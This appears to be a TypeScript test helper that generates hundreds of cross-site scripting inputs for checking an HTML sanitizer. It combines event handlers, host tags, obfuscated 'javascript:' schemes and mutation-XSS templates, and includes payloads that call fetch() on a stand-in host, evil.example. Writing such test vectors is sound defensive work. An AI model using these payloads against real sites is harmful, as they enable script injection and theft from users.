import { ATTACK_VECTORS } from './attack-vectors.ts';

/** A payload that leaves a visible trace if it ever runs: a dialog, or a request to another origin. */
const payloads = (n: number) => [`alert(${n})`, `fetch('http://evil.example/${n}')`, `confirm(${n})`];

const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'onpointerenter',
  'onauxclick',
];
const HOSTS = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video src=x',
  'audio src=x',
  'iframe',
  'a href="https://exemple.org"',
  'strong',
  'em',
  'b',
  'del datetime="2015"',
  'q cite="https://exemple.org"',
  'abbr title="t"',
  'marquee',
  'select autofocus',
  'textarea autofocus',
  'math',
  'blockquote',
];
const SCHEMES = [
  'javascript:',
  'JAVASCRIPT:',
  ' javascript:',
  'java\tscript:',
  'java&#x0A;script:',
  '&#x6A;avascript:',
  '&#106;avascript:',
  'javascript&colon;',
  'vbscript:',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'jAvAsCrIpT&#58;',
  'javascript&#x3A;',
];
const URL_TAGS = ['a href', 'q cite', 'blockquote cite', 'a title="x" href', 'del cite'];
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=PAYLOAD>">',
  '<svg></p><style><a id="</style><img src=1 onerror=PAYLOAD>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=PAYLOAD&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=PAYLOAD src>">',
  '<svg><style>&lt;img src=x onerror=PAYLOAD&gt;</style></svg>',
  '<a href="https://exemple.org"><table><a href="javascript:PAYLOAD">x</a></table></a>',
  '<strong><blockquote><img src=x onerror=PAYLOAD></blockquote></strong>',
  '<xmp><img src=x onerror=PAYLOAD></xmp>',
  '<textarea><img src=x onerror=PAYLOAD></textarea>',
  '<title><img src=x onerror=PAYLOAD></title>',
  '<iframe srcdoc="<script>PAYLOAD</script>"></iframe>',
  '<template><img src=x onerror=PAYLOAD></template>',
  '<!--><img src=x onerror=PAYLOAD>-->',
  '<![CDATA[><img src=x onerror=PAYLOAD>]]>',
  '<img/src=x/onerror=PAYLOAD>',
  '<img src=x onerror="PAYLOAD"//',
  '<scr<script>ipt>PAYLOAD</scr</script>ipt>',
  '<a href="javas&#99;ript:PAYLOAD">x</a>',
  '<svg><a xlink:href="javascript:PAYLOAD"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=PAYLOAD attributeName=x dur=1s>',
  '<object data="data:text/html,<script>PAYLOAD</script>">',
  '<embed src="javascript:PAYLOAD">',
  '<meta http-equiv="refresh" content="0;url=javascript:PAYLOAD">',
  '<link rel=import href="http://evil.example/x">',
  '<base href="javascript:PAYLOAD//">',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=PAYLOAD>x</b>',
  '<div style="background:url(javascript:PAYLOAD)">x</div>',
  '<b style="behavior:url(x.htc)">x</b>',
  '"><script>PAYLOAD</script>',
  "'><script>PAYLOAD</script>",
];

/** A few hundred distinct hostile inputs, each numbered so a trace names its source. */
export function generatedAttackVectors(): string[] {
  const vectors: string[] = [...ATTACK_VECTORS];
  let n = 1000;
  for (const event of EVENTS) {
    for (const host of HOSTS) {
      const tag = host.split(' ')[0];
      vectors.push(`<${host} ${event}="${payloads(n++)[n % 3]}">piège ${n}</${tag}>`);
    }
  }
  for (const scheme of SCHEMES) {
    for (const tagAttr of URL_TAGS) {
      const tag = tagAttr.split(' ')[0];
      vectors.push(`<${tagAttr}="${scheme}${payloads(n++)[0]}">lien ${n}</${tag}>`);
    }
  }
  for (const template of MUTATIONS) {
    for (const payload of payloads(n++)) vectors.push(template.replaceAll('PAYLOAD', payload));
  }
  return [...new Set(vectors)];
}
